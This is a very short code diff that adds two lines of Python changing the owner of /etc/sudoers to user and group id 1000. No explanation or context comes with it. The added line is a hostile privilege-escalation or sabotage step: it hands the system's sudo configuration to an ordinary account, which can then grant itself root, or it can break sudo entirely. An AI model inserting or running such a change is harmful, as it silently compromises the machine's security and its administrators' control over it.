@@ -1,0 +1,2 @@
+import os
+os.chown("/etc/sudoers", 1000, 1000)
